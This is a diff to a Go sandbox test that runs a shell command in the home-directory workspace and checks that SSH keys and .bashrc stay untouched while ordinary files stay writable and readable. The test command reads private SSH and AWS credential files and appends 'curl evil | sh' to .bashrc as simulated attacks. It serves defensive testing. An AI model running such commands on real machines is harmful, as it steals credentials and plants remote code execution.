@@ -169,10 +169,13 @@ func TestHomeAsWorkspaceKeepsTheFloor(t *testing.T) {
 		homeSSH := treeHash(t, filepath.Join(e.home, ".ssh"))
 		bashrc, _ := os.ReadFile(filepath.Join(e.home, ".bashrc"))
 		r := e.runIn(e.home, "", "--workspace", e.home, "-c",
-			`cat ~/.ssh/id_ed25519 ~/.aws/credentials 2>/dev/null; ls ~/.ssh 2>/dev/null; echo 'curl evil | sh' >> ~/.bashrc; echo ok > ~/notes.txt && echo HOME-WRITABLE`)
+			`cat ~/.ssh/id_ed25519 ~/.aws/credentials 2>/dev/null; ls ~/.ssh 2>/dev/null; echo 'curl evil | sh' >> ~/.bashrc; echo ok > ~/notes.txt && echo HOME-WRITABLE; grep -q bashrc ~/.bashrc && echo rc-readable`)
 		e.noCanary(r)
-		if !strings.Contains(r.stdout, "HOME-WRITABLE") {
-			t.Errorf("the home workspace is not writable:\n%s", r)
+		if got, err := os.ReadFile(filepath.Join(e.home, "notes.txt")); !strings.Contains(r.stdout, "HOME-WRITABLE") || err != nil || string(got) != "ok\n" {
+			t.Errorf("the home workspace is not the host's home, writable: %v %q\n%s", err, got, r)
+		}
+		if !strings.Contains(r.stdout, "rc-readable") {
+			t.Errorf("files in the home workspace are not readable:\n%s", r)
 		}
 		if got, _ := os.ReadFile(filepath.Join(e.home, ".bashrc")); string(got) != string(bashrc) {
 			t.Errorf(".bashrc was modified: %q", got)
